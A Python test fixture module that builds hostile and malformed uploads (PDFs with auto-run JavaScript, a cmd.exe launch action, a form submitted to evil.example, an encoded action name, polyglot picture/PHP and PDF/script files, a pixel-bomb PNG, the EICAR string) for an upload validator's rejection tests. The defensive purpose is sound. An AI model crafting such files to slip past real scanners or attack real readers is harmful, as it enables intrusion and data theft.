"""Files as people and attackers hand them in, made here piece by piece."""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    """A small photo-like picture."""
    image = Image.effect_noise(size, 40).convert("RGB")
    written = BytesIO()
    image.save(written, format=kind, **options)
    return written.getvalue()


def photo_with_place() -> bytes:
    """A photo whose EXIF says where and with what it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate a quarter turn to see it upright
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825)[2] = (13.0, 45.0, 22.0)
    return picture(exif=exif.tobytes(), comment=b"secret comment")


# A colour gradient of 64 x 48 as an iPhone writes it, turned by EXIF, which names its maker.
_HEIC = (
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAchtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAA"
    "AAAAAAAAAAAAADRpbG9jAAAAAERAAAIAAQAAAAAB7AABAAAAAAAAAEgAAgAAAAACNAABAAAAAAAAAD4AAAA4aWlu"
    "ZgAAAAAAAgAAABVpbmZlAgAAAAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAAB"
    "B2lwcnAAAADmaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMA"
    "AAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkA"
    "AAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAA"
    "AAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAAAlpcm90AwAAABlpcG1hAAAAAAAAAAEAAQaBAgMFhIYAAAAa"
    "aXJlZgAAAAAAAAAOY2RzYwACAAEAAQAAAI5tZGF0AAAARCgBrxmA71BJjpGz79llI/5cBx7Wb9fnzFvDD48ahiGx"
    "qjjFgbBpmYbVXZFuzX1ysqJrIDlEsTTq6I8QkF8l6bk0xfhbAAAABkV4aWYAAE1NACoAAAAIAAIBDwACAAAADQAA"
    "ACYBEgADAAAAAQAGAAAAAAAAU2VjcmV0IHBob25lAAA="
)


def iphone_photo() -> bytes:
    """A HEIC picture. The decoder that is used here cannot write one, so it is kept."""
    return base64.b64decode(_HEIC)


def huge_picture(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of some kilobytes that says it has 2500 million pixels."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000))
        + chunk(b"IEND", b"")
    )


def archive(size: int = 1000) -> bytes:
    """A zip file of zeros."""
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr("a", b"\0" * size)
    return written.getvalue()


def document(writer: PdfWriter | None = None, pages: int = 1) -> bytes:
    """A PDF with blank pages, and whatever the writer holds."""
    writer = writer or PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_attachment("tool.exe", b"MZ")
    return document(writer)


def with_action(action: str, **values: str) -> bytes:
    """A document that acts when it is opened."""
    writer = PdfWriter()
    act = DictionaryObject({NameObject("/S"): NameObject(action)})
    for key, value in values.items():
        act[NameObject(f"/{key}")] = TextStringObject(value)
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(act)
    return document(writer)


def with_hidden_name() -> bytes:
    """The name of the action spelled with a number sign, as readers understand it."""
    return with_action("/JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/J#61v#61Script")


def with_unused_script() -> bytes:
    """A script no page refers to, packed into an object stream."""
    writer = PdfWriter()
    writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }
        )
    )
    return document(writer)


def with_link() -> bytes:
    """A document with a plain link: letters have those."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_annotation(0, Link(rect=(10, 10, 50, 50), url="https://example.co.th"))
    return document(writer)


def with_form() -> bytes:
    """A form built with XFA."""
    writer = PdfWriter()
    form = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject([FloatObject(1)]),
            NameObject("/XFA"): TextStringObject("<xdp/>"),
        }
    )
    writer.root_object[NameObject("/AcroForm")] = form
    return document(writer)


def document_of_objects(count: int) -> bytes:
    """A right document of one page and very many objects that nothing needs."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *(b"<</A[<</B<</C 1>>>>]>>" for _ in range(count)),
    ]
    written, table = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    parts, place = [], len(written)
    for number, body in enumerate(bodies, start=1):
        parts.append(b"%d 0 obj%s endobj\n" % (number, body))
        table += b"%010d 00000 n \n" % place
        place += len(parts[-1])
    size = len(bodies) + 1
    end = b"xref\n0 %d\n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return written + b"".join(parts) + end % (size, table, size, place)


def locked() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="AES-256")
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def eicar() -> bytes:
    """The test string of the antivirus makers, put together so that this file does not hold it."""
    parts = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*")
    return "".join(parts).encode()


def infected_photo() -> bytes:
    """A photo with the test string in its comment."""
    return picture(comment=eicar())


def infected_document() -> bytes:
    """A document with the test string in a comment at its end."""
    return document() + b"% " + eicar()


# What is refused, by the code of the refusal.
REFUSED: dict[str, tuple[str, bytes]] = {
    "nothing": ("file_empty", b""),
    "a zip called pdf": ("file_type_not_allowed", archive(5_000_000)),
    "a gif": ("file_type_not_allowed", picture("GIF")),
    "a script drawing": ("file_type_not_allowed", b"<svg onload='x()' xmlns='a'/>"),
    "a page": ("file_type_not_allowed", b"<html><script>x()</script></html>"),
    "a program": ("file_type_not_allowed", b"MZ" + b"\0" * 200),
    "a pdf that begins late": ("file_type_not_allowed", b"junk\n" + document()),
    "a picture and a jar": ("file_two_kinds", picture() + archive()),
    "a png and a zip": ("file_two_kinds", picture("PNG") + archive()),
    "a pdf and a zip": ("file_two_kinds", document() + archive()),
    "a picture and a pdf": ("file_two_kinds", picture(comment=document())),
    "a pdf and a page": (
        "file_two_kinds",
        document().replace(b"\n", b"\n%<script>x()</script>\n", 1),
    ),
    "a picture and a php page": ("file_two_kinds", picture(comment=b"<?php x(); ?>")),
    "a picture cut off": ("file_damaged", picture(size=(640, 480))[:5000]),
    "a png cut off": ("file_damaged", picture("PNG", size=(640, 480))[:5000]),
    "a webp cut off": ("file_damaged", picture("WEBP", size=(640, 480))[:500]),
    "the beginning of a picture": ("file_damaged", b"\xff\xd8\xff\xe0" + b"\0" * 50),
    "a picture of noise": ("file_damaged", b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
    "a picture of 2500 megapixels": ("picture_too_large", huge_picture()),
    "a pdf cut off": ("file_damaged", document()[:200]),
    "a pdf of noise": ("file_damaged", b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF"),
    "a pdf without pages": ("file_damaged", document(pages=0)),
    "a pdf with a script": ("pdf_active", with_action("/JavaScript", JS="app.alert(1)")),
    "a pdf with an attachment": ("pdf_active", with_attachment()),
    "a pdf that starts a program": ("pdf_active", with_action("/Launch", F="cmd.exe")),
    "a pdf that sends a form": ("pdf_active", with_action("/SubmitForm", F="https://evil.example")),
    "a pdf that opens another": ("pdf_active", with_action("/GoToR", F="other.pdf")),
    "a pdf with a hidden name": ("pdf_active", with_hidden_name()),
    "a pdf with an unused script": ("pdf_active", with_unused_script()),
    "a pdf with an xfa form": ("pdf_active", with_form()),
    "a pdf with a password": ("pdf_locked", locked()),
    "a pdf of 60 pages": ("pdf_too_long", document(pages=60)),
}
